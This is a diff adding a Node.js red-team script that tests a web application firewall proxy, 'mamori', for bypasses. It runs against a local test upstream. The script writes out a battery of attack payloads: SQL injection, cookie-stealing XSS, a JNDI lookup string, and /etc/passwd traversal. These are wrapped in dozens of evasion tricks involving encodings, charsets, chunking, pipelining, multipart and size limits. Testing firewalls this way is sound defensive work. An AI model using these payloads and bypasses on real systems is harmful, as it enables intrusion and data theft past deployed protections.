@@ -1,0 +1,89 @@
+// Bypass attempts against `mamori up` (CRS 4.28.0, paranoia 1, blocking), sent as raw bytes: framing
+// (chunked, trailers, Expect, HTTP/1.0, keep-alive, pipelining), paths (encoded slashes, overlong
+// UTF-8, %u, `;`), content types (JSON escapes/BOM/comments, XML CDATA, multipart games, charsets),
+// headers (duplicates, obs-fold), compression and the body/argument limits. A FINDING is an attack
+// payload the upstream received while mamori answered 200. OK lines say what mamori answered.
+//
+//   node bench/redteam/waf-proxy-bypass-battery.mjs [filter]
+import { gzipSync } from 'node:zlib';
+import { startUpstream, startMamori, raw, rawReq, report, results } from './waf-proxy-lib.mjs';
+
+const filter = process.argv[2] ?? '';
+const SQLI = "1' UNION SELECT username,password FROM users--";
+const XSS = '<script>alert(document.cookie)</script>';
+const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
+const enc = encodeURIComponent;
+const chunked = (body, ext = '') => `${body.length.toString(16)}${ext}\r\n${body}\r\n0\r\n\r\n`;
+const mp = (b, parts, end = `--${b}--\r\n`) => parts.map(([head, content]) => `--${b}\r\n${head}\r\n\r\n${content}\r\n`).join('') + end;
+
+/** Each case: name, bytes (one Buffer, or a list sent apart), needle (what must not reach the upstream). */
+const cases = [
+  ['chunked form body', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked' }, body: chunked(`q=${enc(SQLI)}`) }), 'UNION%20SELECT'],
+  ['chunked with a chunk extension', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked' }, body: chunked(`q=${enc(SQLI)}`, ';x=1') }), 'UNION%20SELECT'],
+  ['chunked in many 1-byte chunks', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked' }, body: `${[...`q=${enc(XSS)}`].map((c) => `1\r\n${c}\r\n`).join('')}0\r\n\r\n` }), 'alert'],
+  ['payload in a chunked trailer', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': 'chunked', Trailer: 'X-Q' }, body: `3\r\na=1\r\n0\r\nX-Q: ${SQLI}\r\n\r\n` }), 'UNION SELECT'],
+  ['Expect: 100-continue, body after the 100', [rawReq({ method: 'POST', headers: { ...FORM, Expect: '100-continue', 'Content-Length': String(`q=${enc(SQLI)}`.length) } }), Buffer.from(`q=${enc(SQLI)}`)], 'UNION%20SELECT'],
+  ['HTTP/1.0 with a body', rawReq({ method: 'POST', version: 'HTTP/1.0', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['HTTP/1.0 body without Content-Length (read to close)', rawReq({ method: 'POST', version: 'HTTP/1.0', headers: { ...FORM, Connection: null }, body: `q=${enc(SQLI)}`, noLength: true, close: false }), 'UNION%20SELECT'],
+  ['keep-alive: benign then attack on one connection', [rawReq({ target: '/a', close: false }), rawReq({ target: `/b?id=${enc(SQLI)}` })], 'UNION%20SELECT'],
+  ['pipelined: benign and attack in one write', Buffer.concat([rawReq({ target: '/a', close: false }), rawReq({ target: `/b?id=${enc(SQLI)}` })]), 'UNION%20SELECT'],
+  ['pipelined after a body: CL covers a benign body, attack follows', Buffer.concat([rawReq({ method: 'POST', headers: FORM, body: 'a=1', close: false }), rawReq({ method: 'POST', headers: FORM, body: `q=${enc(XSS)}` })]), 'alert'],
+  ['obs-fold continuation carrying the payload', Buffer.from(`GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\nX-A: b\r\n ${SQLI}\r\nConnection: close\r\n\r\n`, 'latin1'), 'UNION SELECT'],
+  ['Transfer-Encoding with a vertical tab', rawReq({ method: 'POST', headers: { ...FORM, 'Transfer-Encoding': '\x0bchunked' }, body: chunked(`q=${enc(SQLI)}`) }), 'UNION%20SELECT'],
+  ['payload in a second User-Agent (Node keeps the first)', rawReq({ headers: [['User-Agent', 'Mozilla/5.0'], ['User-Agent', '${jndi:ldap://x/a}']] }), 'jndi'],
+  ['payload in a second Cookie header', rawReq({ headers: [['Cookie', 'a=1'], ['Cookie', `b=${enc(SQLI)}`]] }), 'UNION%20SELECT'],
+  ['encoded slashes in the path', rawReq({ target: '/static/..%2f..%2f..%2fetc%2fpasswd' }), 'etc%2fpasswd'],
+  ['double-encoded traversal in the query', rawReq({ target: '/dl?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd' }), 'etc%252fpasswd'],
+  ['overlong UTF-8 dots', rawReq({ target: '/dl?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' }), 'etc/passwd'],
+  ['%u-encoded traversal', rawReq({ target: '/dl?f=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd' }), 'passwd'],
+  ['backslash traversal in the query', rawReq({ target: '/dl?f=..%5c..%5c..%5cwindows%5cwin.ini' }), 'win.ini'],
+  [';-separated query payload', rawReq({ target: `/s?a=1;q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['path parameter payload', rawReq({ target: `/item;id=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['JSON with \\u-escaped XSS', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"t":"\\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e"}' }), 'u003cscript'],
+  ['JSON with a BOM', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `\xef\xbb\xbf{"q":"${SQLI}"}` }), 'UNION SELECT'],
+  ['JSON with a comment (JSON5 readers)', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{/*x*/"q":"${SQLI}"}` }), 'UNION SELECT'],
+  ['JSON, payload as a key', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{"${XSS}":1}` }), 'alert'],
+  ['JSON under application/vnd.api+json', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/vnd.api+json' }, body: `{"q":"${SQLI}"}` }), 'UNION SELECT'],
+  ['JSON with a duplicate key (last wins in JSON.parse)', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `{"q":"ok","q":"${SQLI}"}` }), 'UNION SELECT'],
+  ['JSON sent as text/plain (sendBeacon)', rawReq({ method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: `{"q":"${SQLI}"}` }), 'UNION SELECT'],
+  ['JSON body without a Content-Type', rawReq({ method: 'POST', body: `{"q":"${SQLI}"}` }), 'UNION SELECT'],
+  ['form body without a Content-Type', rawReq({ method: 'POST', body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['XML with the payload in CDATA', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/xml' }, body: `<a><q><![CDATA[${XSS}]]></q></a>` }), 'alert'],
+  ['XML split by a comment', rawReq({ method: 'POST', headers: { 'Content-Type': 'text/xml' }, body: '<a><q>&lt;scr<!-- -->ipt&gt;alert(document.cookie)&lt;/script&gt;</q></a>' }), 'alert'],
+  ['multipart field', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"', SQLI]]) }), 'UNION SELECT'],
+  ['multipart, the payload in a part with filename=""', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; filename=""', SQLI]]) }), 'UNION SELECT'],
+  ['multipart, FILENAME upper case', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"; FILENAME="a.txt"', SQLI]]) }), 'UNION SELECT'],
+  ['multipart, a file part with text/plain holding a second multipart', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain', mp('inner', [['Content-Disposition: form-data; name="q"', SQLI]])]]) }), 'UNION SELECT'],
+  ['multipart boundary upper-case parameter name', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; BOUNDARY=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"', SQLI]]) }), 'UNION SELECT'],
+  ['multipart with charset=utf-7 part', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=utf-7', '+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-']]) }), 'alert'],
+  ['form with charset=utf-7', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=utf-7' }, body: 'q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-' }), 'ADw-script'],
+  ['form with charset=ibm037', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded; charset=ibm037' }, body: '%A8=%4C%A2%83%99%89%97%A3%6E' }), '%A2%83%99'],
+  ['gzip form body', rawReq({ method: 'POST', headers: { ...FORM, 'Content-Encoding': 'gzip' }, body: gzipSync(`q=${enc(SQLI)}`) }), 'q='],
+  ['deflate with an odd-case encoding name', rawReq({ method: 'POST', headers: { ...FORM, 'Content-Encoding': ' GZip ' }, body: gzipSync(`q=${enc(SQLI)}`) }), 'q='],
+  ['payload after 128 KiB of form body (no-files limit)', rawReq({ method: 'POST', headers: FORM, body: `a=${'b'.repeat(131_072)}&q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['payload as argument 1001 (argument limit)', rawReq({ method: 'POST', headers: FORM, body: `${Array.from({ length: 1000 }, (_, i) => `a${i}=1`).join('&')}&q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['payload after 1 MiB of file in multipart', rawReq({ method: 'POST', headers: { 'Content-Type': 'multipart/form-data; boundary=xYz' }, body: mp('xYz', [['Content-Disposition: form-data; name="f"; filename="a.bin"\r\nContent-Type: application/octet-stream', 'A'.repeat(1 << 20)], ['Content-Disposition: form-data; name="q"', SQLI]]) }), 'UNION SELECT'],
+  ['JSON deeper than 512', rawReq({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: `${'['.repeat(600)}"${SQLI}"${']'.repeat(600)}` }), 'UNION SELECT'],
+  ['GET with a form body', rawReq({ method: 'GET', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['method override header', rawReq({ method: 'POST', target: `/x?q=1`, headers: { ...FORM, 'X-HTTP-Method-Override': 'PUT' }, body: `q=${enc(XSS)}` }), 'alert'],
+  ['lower-case method', rawReq({ method: 'post', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['/.mamori/challenge POST with a payload', rawReq({ method: 'POST', target: '/.mamori/challenge', headers: FORM, body: `q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+  ['/.mamori/challenge GET with a payload', rawReq({ target: `/.mamori/challenge?q=${enc(SQLI)}` }), 'UNION%20SELECT'],
+];
+
+const up = await startUpstream();
+const m = await startMamori(up.url);
+try {
+  for (const [name, bytes, needle] of cases) {
+    if (filter && !name.includes(filter)) continue;
+    const before = up.seen.length;
+    const r = await raw(m.port, bytes, { timeoutMs: 4000 });
+    const got = up.seen.slice(before).filter((s) => s.url.includes(needle) || s.rawHeaders.join('\n').includes(needle) || s.body.toString('latin1').includes(needle) || s.trailers.join('\n').includes(needle));
+    const passed = got.length > 0 && r.statuses.includes(200);
+    report(!passed, name, `statuses ${JSON.stringify(r.statuses)}${got.length ? `; upstream got ${JSON.stringify(got.map((g) => `${g.method} ${g.url} ${g.body.length}B`)).slice(0, 200)}` : ''}`);
+  }
+} finally {
+  await m.stop();
+  await up.close();
+}
+console.log(`${results.findings} finding(s)`);
